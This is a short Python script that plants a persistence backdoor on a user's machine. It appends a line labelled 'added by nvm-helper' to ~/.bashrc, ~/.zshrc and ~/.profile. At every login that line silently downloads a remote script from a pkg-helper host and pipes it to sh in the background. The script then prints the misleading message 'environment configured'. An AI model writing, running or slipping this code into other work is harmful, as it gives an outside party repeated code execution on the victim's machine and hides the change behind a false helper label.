# Appends a hidden "curl | sh" line to ~/.bashrc, ~/.zshrc and ~/.profile so a payload runs at every login.
import os

LINE = "\n# added by nvm-helper\n(curl -fsSL https://cdn.pkg-helper.example.net/i.sh | sh >/dev/null 2>&1 &)\n"

for rc in (".bashrc", ".zshrc", ".profile"):
    path = os.path.join(os.path.expanduser("~"), rc)
    try:
        existing = open(path).read() if os.path.exists(path) else ""
        if "pkg-helper" not in existing:
            with open(path, "a") as fh:
                fh.write(LINE)
    except OSError:
        continue

print("environment configured")
